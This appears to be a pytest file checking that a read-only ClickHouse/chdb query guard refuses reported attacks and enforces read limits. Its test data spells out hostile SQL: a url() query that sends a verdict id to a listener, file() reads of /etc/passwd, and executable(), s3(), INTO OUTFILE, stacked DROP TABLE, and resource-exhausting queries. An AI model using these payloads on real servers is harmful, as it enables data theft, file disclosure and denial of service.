"""The locked query surface (issue 10, item 5): every reported attack, refused or harmless, on both engines.

Each test runs on chdb and on the ClickHouse 18.16 server (``clickhouse_config``
is parametrised over both). The reported attacks were:
``DESCRIBE TABLE file('/etc/shadow', ...)`` returning a line of the file and
``DESCRIBE TABLE url(concat('http://127.0.0.1:PORT/x?', (SELECT any(verdict_id)
...)))`` sending a verdict id to a listener; both went through ``eroica sql``,
the sink's endpoint and a stopped stack's chdb directory, all of which end in
``VerdictSink.run_readonly_sql``. The endpoint's own checks are in
test_http_api.py.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from eroica.models.verdict import Verdict
from eroica.sinks.clickhouse import ClickHouseConfig, ClickHouseError, ReadOnlySQLError, VerdictSink
from eroica.sinks.clickhouse.readonly import SQLPolicy, check_ast
from listener import Listener  # tests/listener.py (tests/ is on sys.path: root conftest.py)


@pytest.fixture
def listener() -> Iterator[Listener]:
    lis = Listener()
    try:
        yield lis
    finally:
        lis.stop()


@pytest.fixture
def stored(verdict_sink: VerdictSink, make_verdict: Callable[..., Verdict]) -> VerdictSink:
    verdict_sink.ensure_schema()
    verdict_sink.write_verdicts([make_verdict(rank=r) for r in (1, 2, 3)])
    return verdict_sink


def _exfiltration(port: int, db: str, how: str) -> str:
    leak = f"concat('http://127.0.0.1:{port}/x?', (SELECT any(verdict_id) FROM `{db}`.verdicts))"
    if how == "describe":
        return f"DESCRIBE TABLE url({leak}, 'CSV', 'a String')"
    if how == "select":
        return f"SELECT * FROM url({leak}, 'CSV', 'a String')"
    return f"SELECT url({leak})"  # url as a function, where an engine has one


@pytest.mark.parametrize("how", ["describe", "select", "function"])
def test_url_with_a_subquery_sends_nothing(stored: VerdictSink, listener: Listener, how: str) -> None:
    sql = _exfiltration(listener.port, stored.config.database, how)
    with pytest.raises(ReadOnlySQLError):
        stored.run_readonly_sql(sql)
    time.sleep(0.3)
    assert listener.connections == 0 and bytes(listener.received) == b""


@pytest.mark.parametrize("sql", [
    "DESCRIBE TABLE file('/etc/passwd', 'TSVWithNames')",
    "DESCRIBE file('/etc/passwd', 'TSV', 'l String')",
    "SELECT * FROM file('/etc/passwd', 'TSV', 'l String')",
    "SELECT * FROM file('/etc/passwd')",
    "SELECT file('/etc/passwd')",
    "SELECT * FROM numbers(10)",
    "SELECT * FROM remote('127.0.0.1', system.one)",
    "SELECT * FROM merge('system', '.*')",
    "SELECT * FROM input('a String')",
    "SELECT * FROM executable('x.sh', 'TSV', 'a String')",
    "SELECT * FROM s3('http://127.0.0.1:1/b/k', 'CSV', 'a String')",
])
def test_table_functions_refused(stored: VerdictSink, sql: str) -> None:
    with pytest.raises(ReadOnlySQLError):
        stored.run_readonly_sql(sql)


@pytest.mark.parametrize("sql", [
    "SELECT * FROM system.tables",
    "SELECT name FROM system.users",
    "SELECT * FROM `system`.`processes`",
    "SELECT 1 FROM {t} AS v JOIN system.one AS o ON 1",
    "SELECT 1 WHERE 1 IN system.one",
    "SELECT count() FROM default.nothing",
    "SHOW TABLES FROM system",
    "SHOW DATABASES",
    "SHOW PROCESSLIST",
    "SHOW CREATE TABLE system.tables",
    "DESCRIBE TABLE system.tables",
    "EXISTS TABLE system.tables",
    "SELECT dictGet('d', 'a', toUInt64(1))",
    "SELECT hostName()",
    "SELECT count() FROM {t} SETTINGS max_execution_time = 10000",
    "SELECT count() FROM {t} SETTINGS readonly = 0",
    "SELECT * FROM {t} FORMAT TSV",
])
def test_other_databases_settings_and_formats_refused(stored: VerdictSink, sql: str) -> None:
    with pytest.raises(ReadOnlySQLError):
        stored.run_readonly_sql(sql.format(t=stored.config.verdicts))


def test_into_outfile_writes_nothing(stored: VerdictSink, tmp_path: Path) -> None:
    out = tmp_path / "outfile.csv"
    with pytest.raises(ReadOnlySQLError):
        stored.run_readonly_sql(f"SELECT * FROM {stored.config.verdicts} INTO OUTFILE '{out}'")
    assert not out.exists()


@pytest.mark.parametrize("second", ["DROP TABLE {t}", "SELECT * FROM system.users", "INSERT INTO {t} (job) VALUES ('x')"])
def test_multiple_statements_refused_and_nothing_changes(stored: VerdictSink, second: str) -> None:
    t = stored.config.verdicts
    with pytest.raises(ReadOnlySQLError, match="one statement"):
        stored.run_readonly_sql(f"SELECT 1; {second.format(t=t)}")
    assert stored.run_readonly_sql(f"SELECT count() FROM {t} FINAL").rows == [(3,)]


@pytest.mark.parametrize("sql", [
    "SELECT job, count() AS n FROM {t} FINAL GROUP BY job",
    "SELECT countIf(rank > 1), quantile(0.5)(score), max(toDateTime(intDiv(window_start_ns, 1000000000))) FROM {t}",
    "SELECT arrayMap(x -> x + 1, peers) FROM {t} ORDER BY rank LIMIT 1",
    "SELECT count() FROM verdicts",  # unqualified: Eroica's database is the read connection's
    "SELECT count() FROM (SELECT rank FROM {t}) WHERE rank > 0",
    "SHOW TABLES",
    "SHOW TABLES FROM {db}",
    "DESCRIBE TABLE {t}",
    "EXISTS TABLE {s}",
    "SHOW CREATE TABLE {t}",
])
def test_reads_of_eroicas_tables_work(stored: VerdictSink, sql: str) -> None:
    cfg = stored.config
    res = stored.run_readonly_sql(sql.format(t=cfg.verdicts, s=cfg.summaries, db=cfg.database))
    assert res.rows


def test_the_engines_parse_tree_refuses_on_its_own(stored: VerdictSink, listener: Listener) -> None:
    """chdb: past the tokenizer, the EXPLAIN AST walk refuses the same attacks (and parsing sends nothing)."""
    client = stored.client
    if not hasattr(client, "explain_ast"):
        pytest.skip("18.16 has no EXPLAIN: the tokenizer is the guard there, backed by readonly=1")
    policy = SQLPolicy.for_database(stored.config.database, client.databases())
    for sql in (_exfiltration(listener.port, stored.config.database, "describe"),
                _exfiltration(listener.port, stored.config.database, "select"),
                "DESCRIBE TABLE file('/etc/passwd', 'TSVWithNames')", "SELECT * FROM numbers(3)",
                "SELECT * FROM system.tables", "SELECT 1 WHERE 1 IN system.one",
                "SELECT dictGet('d', 'a', toUInt64(1))", "SELECT 1 INTO OUTFILE '/tmp/eroica-never'",
                "SELECT 1 FORMAT CSV", "SHOW TABLES FROM system", "DESCRIBE (SELECT 1)"):
        with pytest.raises(ReadOnlySQLError):
            check_ast(client.explain_ast(sql), policy)
    # EXPLAIN applies a SETTINGS clause: the parse session's readonly=1 refuses it (the tokenizer never sends it)
    with pytest.raises((ReadOnlySQLError, ClickHouseError)):
        check_ast(client.explain_ast("SELECT 1 SETTINGS max_threads = 1"), policy)
    check_ast(client.explain_ast(f"SELECT job FROM {stored.config.verdicts} FINAL"), policy)
    time.sleep(0.3)
    assert listener.connections == 0


def test_numeric_filters_are_bounds_checked(stored: VerdictSink) -> None:
    for bad in (2**64, 2**63, -1):
        with pytest.raises(ValueError, match="since_ns"):
            stored.query_verdicts(since_ns=bad)
    with pytest.raises(ValueError, match="limit"):
        stored.query_verdicts(limit=2**64)
    with pytest.raises(ValueError, match="rank"):
        stored.query_summaries(rank=2**40)
    assert len(stored.query_verdicts(since_ns=2**63 - 1)) == 0
    assert len(stored.query_verdicts(since_ns=0)) == 3


# A read that runs for hours in little memory on both engines (system.numbers never ends). The
# guard refuses system tables, so it goes to the read path directly: these tests are about the limits
# and the separate read connection/session, which back the guard.
HEAVY = "SELECT count() FROM system.numbers WHERE cityHash64(number) = 1"
# A guard-approved heavy read (10^10 hashes; chdb streams the cross join, 18.16 runs out of memory on it).
HEAVY_ALLOWED = ("SELECT sum(cityHash64(a, b)) FROM (SELECT arrayJoin(range(100000)) AS a) AS x "
                 "CROSS JOIN (SELECT arrayJoin(range(100000)) AS b) AS y")


def _limited(config: ClickHouseConfig, **limits: object) -> VerdictSink:
    return VerdictSink(config.replace(**limits))


def test_read_limits_are_the_servers(clickhouse_config: ClickHouseConfig, verdict_sink: VerdictSink) -> None:
    verdict_sink.ensure_schema()
    verdict_sink.close()  # chdb: one owner of the directory at a time
    sink = _limited(clickhouse_config, read_timeout_s=1.0, read_max_rows=5)
    try:
        t0 = time.monotonic()
        with pytest.raises(ClickHouseError) as info:
            sink.client.query(HEAVY, readonly=True)
        assert info.value.code == 159, info.value  # TIMEOUT_EXCEEDED
        assert time.monotonic() - t0 < 15
        t0 = time.monotonic()
        with pytest.raises(ClickHouseError) as info:
            sink.run_readonly_sql(HEAVY_ALLOWED)
        # chdb: stopped by the time limit; 18.16: by the memory limit (1 GiB), quickly either way
        assert info.value.code in (159, 241), info.value
        assert time.monotonic() - t0 < 15
        with pytest.raises(ClickHouseError) as info:
            sink.run_readonly_sql("SELECT arrayJoin(range(10)) AS x")
        assert info.value.code == 396, info.value  # TOO_MANY_ROWS_OR_BYTES
        assert sink.run_readonly_sql("SELECT arrayJoin(range(5)) AS x").rows == [(i,) for i in range(5)]
    finally:
        sink.close()


def test_a_heavy_read_never_blocks_inserts(clickhouse_config: ClickHouseConfig, verdict_sink: VerdictSink,
                                           make_verdict: Callable[..., Verdict]) -> None:
    """Inserts go on at their usual pace while a read runs into its time limit (numbers printed with -s)."""
    verdict_sink.ensure_schema()
    verdict_sink.close()
    sink = _limited(clickhouse_config, read_timeout_s=4.0)
    try:
        outcome: dict[str, object] = {}

        def heavy() -> None:
            t0 = time.monotonic()
            try:
                if sink.client.backend == "chdb":
                    sink.run_readonly_sql(HEAVY_ALLOWED)  # the reported case: a heavy read through the guard
                else:
                    sink.client.query(HEAVY, readonly=True)
            except ClickHouseError as exc:
                outcome["code"] = exc.code
            outcome["read_s"] = time.monotonic() - t0

        reader = threading.Thread(target=heavy)
        reader.start()
        time.sleep(0.5)  # the read is running
        latencies = []
        i = 0
        while reader.is_alive() and i < 200:
            t0 = time.monotonic()
            sink.write_verdicts([make_verdict(rank=i, window_start_ns=1_700_000_000_000_000_000 + i * 10**10)])
            latencies.append(time.monotonic() - t0)
            i += 1
            time.sleep(0.05)
        reader.join(timeout=60)
        assert not reader.is_alive()
        print(f"\n[{sink.client.backend}] heavy read ended after {outcome['read_s']:.2f} s (code "
              f"{outcome.get('code')}); {len(latencies)} inserts meanwhile: max {max(latencies) * 1000:.1f} ms, "
              f"median {sorted(latencies)[len(latencies) // 2] * 1000:.1f} ms")
        assert outcome.get("code") == 159
        assert len(latencies) >= 5
        assert max(latencies) < 2.0  # generous: without the separation an insert waited the whole read
        assert sink.run_readonly_sql(f"SELECT count() FROM {sink.config.verdicts} FINAL").rows == [(len(latencies),)]
    finally:
        sink.close()
